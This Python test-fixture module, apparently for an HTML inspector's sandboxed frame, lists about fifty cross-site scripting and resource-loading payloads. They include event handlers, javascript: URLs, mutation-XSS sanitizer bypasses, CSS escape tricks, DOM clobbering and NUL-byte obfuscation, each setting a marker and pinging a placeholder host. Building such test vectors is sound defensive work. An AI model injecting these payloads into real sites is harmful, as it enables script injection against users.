"""Pages that try to run, load, submit or leave: what the inspector's frame must not let through.

`MARK` is what a script would set in any window it reaches; `OUTSIDE` is where a request would go.
"""

from __future__ import annotations

__all__ = ["MARK", "OUTSIDE", "VECTORS"]

OUTSIDE = "http://outside.invalid"
MARK = "top.bonmunWasHere=1"
RUN = f"try{{{MARK}}}catch(e){{}};try{{parent.bonmunWasHere=1}}catch(e){{}};new Image().src='{OUTSIDE}/ran'"
DATA_PAGE = "data:text/html;base64,PHNjcmlwdD50b3AuYm9ubXVuV2FzSGVyZT0xPC9zY3JpcHQ+"

VECTORS = {
    "script": f"<script>{RUN}</script>",
    "script src": f"<script src={OUTSIDE}/a.js></script><script type=module src={OUTSIDE}/b.js></script>",
    "img onerror": f'<img src=x onerror="{RUN}">',
    "body onload": f'<body onload="{RUN}" onpageshow="{RUN}" background={OUTSIDE}/bg>',
    "focus": f'<input autofocus onfocus="{RUN}"><p tabindex=0 contenteditable onfocusin="{RUN}">x</p>',
    "animation": f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{RUN}">x</p>',
    "toggle": f'<details open ontoggle="{RUN}"><summary>s</summary>x</details>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee><video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
    "link": f'<a href="javascript:{RUN}">a</a><a href=" &#1;java&#x09;script:{RUN}">b</a><a xlink:href="javascript:{RUN}">c</a>',
    "link vbscript": f'<a href="vbscript:{RUN}" ping={OUTSIDE}/ping target=_top download>x</a><a href={DATA_PAGE}>d</a>',
    "area": f'<map name=m><area href="javascript:{RUN}"></map><img usemap=#m src=x>',
    "form": f'<form id=f action="javascript:{RUN}"><button formaction="javascript:{RUN}">b</button><input type=submit></form>',
    "form outside": f"<form action={OUTSIDE}/form method=post target=_top><input name=a><input type=image src={OUTSIDE}/i></form>",
    "button form": f'<button form=f formaction={OUTSIDE}/x onclick="{RUN}">x</button><isindex action=javascript:{RUN}>',
    "meta refresh": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}"><meta http-equiv=refresh content="0;url={OUTSIDE}/r">',
    "meta csp": '<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=set-cookie content=a=b>',
    "base": f"<base href={OUTSIDE}/ target=_top><a href=x>x</a><img src=rel.png>",
    "iframe": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src={OUTSIDE}></iframe>',
    "frameset": f'<frameset onload="{RUN}"><frame src="javascript:{RUN}"></frameset>',
    "object": f"<object data={DATA_PAGE}></object><embed src={DATA_PAGE}><applet code=x archive={OUTSIDE}/j></applet>",
    "object params": f'<object type=text/html data={OUTSIDE}><param name=movie value="javascript:{RUN}"></object>',
    "link elements": f"<link rel=import href={OUTSIDE}/i><link rel=preload as=script href={OUTSIDE}/p><link rel=stylesheet href={OUTSIDE}/s.css><link rel=icon href={OUTSIDE}/f><link rel=dns-prefetch href={OUTSIDE}><link rel=preconnect href={OUTSIDE}>",
    "svg script": f'<svg><script>{RUN}</script><g onload="{RUN}"></g></svg><svg onload="{RUN}"/>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a><set attributeName=onmouseover to="{RUN}"/></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/><use xlink:href={OUTSIDE}/u.svg#a /></svg>',
    "svg foreignObject": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe><p onclick="{RUN}">x</p></foreignObject></svg>',
    "svg image": f'<svg><image href={OUTSIDE}/i.png /><feImage href={OUTSIDE}/f /><style>@import "{OUTSIDE}/c.css";</style><path d="M0 0" fill="url({OUTSIDE}/p)"/></svg>',
    "svg handler": f'<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{RUN}</handler><listener/></svg>',
    "math": f'<math><maction actiontype="statusline#x" xlink:href="javascript:{RUN}">c</maction><mi href="javascript:{RUN}">x</mi></math>',
    "math mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "svg mutation": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "math annotation": f'<math><annotation-xml encoding="text/html"><script>{RUN}</script><img src=x onerror="{RUN}"></annotation-xml></math>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea><xmp><p title="</xmp><script>{RUN}</script>"></xmp>',
    "title": f'<title><p title="</title><script>{RUN}</script>"></title><noembed></noembed><script>{RUN}</script>',
    "template": f"<template><script>{RUN}</script><img src=x onerror='{RUN}'></template><div><template shadowrootmode=open><script>{RUN}</script><img src=x onerror='{RUN}'><slot></slot></template>y</div>",
    "comment": f"<!--><script>{RUN}</script>--><!--[if gte IE 4]><script>{RUN}</script><![endif]--><!-- --!><script>{RUN}</script> -->",
    "cdata": f"<svg><![CDATA[><image xlink:href='x' onerror='{RUN}'>]]></svg><![CDATA[<script>{RUN}</script>]]>",
    "plaintext": f"<p>x</p><plaintext><script>{RUN}</script></iframe></body>",
    "closing": f"</iframe></textarea></style></noscript></script></template></select></title>\"'><script>{RUN}</script>",
    "closing in text": f'<p>&lt;/bm-t&gt;&lt;/iframe&gt;&lt;script&gt;{RUN}&lt;/script&gt;</p><p title="&quot;><img src=x onerror={RUN}>">x</p>',
    "style end": f"<style>p{{}}\\3c/style><script>{RUN}</script></style><style>a{{content:'</sty'+'le><script>{RUN}</script>'}}</style>",
    "style loads": f"<style>@import url({OUTSIDE}/a);@import '{OUTSIDE}/b';@font-face{{font-family:f;src:url({OUTSIDE}/f)}}p{{font-family:f;background:url({OUTSIDE}/c);cursor:image-set('{OUTSIDE}/d' 1x)}}p::before{{content:url({OUTSIDE}/e)}}</style>",
    "style escapes": f"<style>p{{background:\\75\\72\\6c({OUTSIDE}/g)}}@\\69mport '{OUTSIDE}/h';li{{list-style:u\\rl({OUTSIDE}/k)}}</style><li>x</li>",
    "style runs": f'<p style="width:expression({RUN});behavior:url({OUTSIDE}/x.htc);-moz-binding:url({OUTSIDE}/x.xml#a);background:url(javascript:{RUN})">x</p>',
    "style attribute": f'<p style="background:url({OUTSIDE}/s1);mask:url({OUTSIDE}/s2);filter:url({OUTSIDE}/s3#a)">x</p><table background={OUTSIDE}/t><td background={OUTSIDE}/u>x</table>',
    "images": f"<img src={OUTSIDE}/i srcset='{OUTSIDE}/j 1x' data-src={OUTSIDE}/k lowsrc={OUTSIDE}/l><picture><source srcset={OUTSIDE}/m><img src={OUTSIDE}/n></picture><video poster={OUTSIDE}/o src={OUTSIDE}/p autoplay></video><input type=image src={OUTSIDE}/q>",
    "clobbering": "<img name=body id=body><form name=documentElement id=head><input name=attributes><input id=parentNode></form><a id=defaultView name=defaultView></a><img id=querySelectorAll name=getElementById><object id=contentWindow></object>",
    "custom elements": f'<my-app onclick="{RUN}"><p is=x-p>x</p></my-app><bm-t data-leaf=0 onclick="{RUN}">fake</bm-t><bm-box id=bm-selected>fake</bm-box>',
    "cover": "<style>html::before{content:'';position:fixed;inset:0;background:#fff;z-index:99999}bm-t{display:none!important}</style><div style='position:fixed;inset:0;z-index:2147483647;background:red'>cover</div>",
    "popover": f'<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{RUN}">x</div><dialog open oncancel="{RUN}">x</dialog>',
    "portal": f"<portal src={OUTSIDE}></portal><fencedframe src={OUTSIDE}></fencedframe><webview src={OUTSIDE}></webview>",
    "nul": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error='{RUN}'><a href='java\x00script:{RUN}'>x</a>",
    "select": f"<select><option><script>{RUN}</script></option><template><script>{RUN}</script></template></select><select><style></select><img src=x onerror='{RUN}'></style>",
}
